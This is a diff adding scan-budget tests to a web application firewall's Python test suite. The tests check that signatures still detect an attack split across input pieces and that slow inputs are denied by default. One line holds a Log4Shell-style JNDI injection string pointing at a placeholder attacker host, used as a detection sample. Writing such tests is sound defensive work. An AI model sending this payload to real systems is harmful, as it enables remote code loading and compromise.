@@ -11,7 +11,7 @@ import yaml
 from enforcement.decision import Inspection, RequestView
 from enforcement.inspection import OVERSIZE, Inspectors, NoInspection, WafInspector, build_inspector, score
 from enforcement.settings import InspectionSettings
-from enforcement.signatures import DEFAULT_RULES, Signature, load_signatures
+from enforcement.signatures import DEFAULT_RULES, SEPARATOR, Signature, SignatureSet, load_signatures
 
 PROTO = "33333333-3333-3333-3333-333333333333"
 SQLI = "9624bf2c-e185-48a7-b742-8a115869aa9e"
@@ -110,3 +110,52 @@ def test_inspectors_merge_what_each_finds() -> None:
 def test_build_inspector(rules_dir: Path) -> None:
     assert isinstance(build_inspector(InspectionSettings(enabled=False), rules_dir), NoInspection)
     assert isinstance(build_inspector(InspectionSettings(), rules_dir), WafInspector)
+
+
+# ------------------------------------------------------------------ scan budget
+
+ATTACK = "${jndi:ldap://evil.example/a}"
+
+
+@pytest.fixture(scope="module")
+def shipped() -> SignatureSet:
+    return load_signatures(DEFAULT_RULES)
+
+
+def _noise(chars: int, seed: int = 5) -> str:
+    """Text that keeps the RE2 set's DFA building states: random words over letters and punctuation."""
+    import random
+    import string
+
+    rng = random.Random(seed)
+    alphabet = string.ascii_letters + string.digits + " .,;:-_/()'\"<>=&%$"
+    words = ["".join(rng.choice(alphabet) for _ in range(rng.randrange(3, 30))) for _ in range(2000)]
+    return " ".join(rng.choice(words) for _ in range(chars // 8))[:chars]
+
+
+@pytest.mark.parametrize("offset", [0, 200, 255, 300, 700, 1500, 3000, 7000])
+def test_a_budgeted_scan_finds_what_one_scan_finds_wherever_the_pieces_are_cut(shipped: SignatureSet, offset: int) -> None:
+    rules = shipped
+    plain = "lorem ipsum dolor sit amet " * 600
+    long_value = plain[:offset] + ATTACK + plain[offset:]  # one value: pieces are cut inside it and overlap
+    many_values = SEPARATOR.join([plain[:offset], ATTACK, plain[offset:]])
+    for text in (long_value, many_values):
+        assert rules.candidates_within(text, float("inf")) == sorted(rules.candidates(text)) != []
+
+
+def test_text_crafted_to_slow_the_scan_is_cut_off_at_the_budget_and_denied_by_default(shipped: SignatureSet) -> None:
+    body = json.dumps({"note": _noise(60_000)}).encode()
+    req = RequestView("POST", "/api/notes", headers={"content-type": "application/json"}, body=body)
+    tight = WafInspector(shipped, InspectionSettings(budget_ms=0.001))
+    found = tight.inspect(req)
+    assert found is not None and found.categories[0] == "inspection-budget" and found.score >= 5 and tight.over_budget == 1
+    allowing = WafInspector(shipped, InspectionSettings(budget_ms=0.001, over_budget="allow"))
+    kept = allowing.inspect(RequestView("POST", "/api/notes", headers={"content-type": "application/json"}, body=body))
+    assert (kept is None or "inspection-budget" not in kept.categories) and allowing.over_budget == 1
+
+
+def test_ordinary_requests_stay_within_the_shipped_budget(shipped: SignatureSet) -> None:
+    inspector = WafInspector(shipped, InspectionSettings())
+    orders = [{"id": i, "sku": f"SKU-{i:06d}", "note": "Leave it at the door, please.", "email": f"u{i}@example.com"} for i in range(400)]
+    req = RequestView("POST", "/api/orders", headers={"content-type": "application/json"}, body=json.dumps(orders).encode())
+    assert inspector.inspect(req) is None and inspector.over_budget == 0
